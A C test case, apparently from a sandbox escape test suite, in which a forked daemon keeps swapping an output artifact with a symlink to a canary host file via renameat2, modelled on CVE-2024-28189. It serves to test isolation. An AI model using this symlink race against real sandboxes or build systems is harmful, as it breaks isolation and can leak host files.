// id: artifact-race
// class: artifact
// does: a daemon swaps the result with a link to a host file as fast as it can
// promise: P26
// after: CVE-2024-28189
// expect: OK within=6
// unjailed: any
// get: out.txt
static void attack(void) {
  int fd = open("out.txt", O_CREAT | O_WRONLY, 0644);
  if (fd < 0 || write(fd, "x", 1) != 1) blocked(errno);
  if (symlink(CANARY "/open", "jailrun-link") < 0) blocked(errno);
  if (fork() == 0) {
    setsid();
    for (int i = 0; i < 200000; i++) renameat2(AT_FDCWD, "out.txt", AT_FDCWD, "jailrun-link", 2);
    _exit(0);
  }
  usleep(20000);
  blocked(0);
}
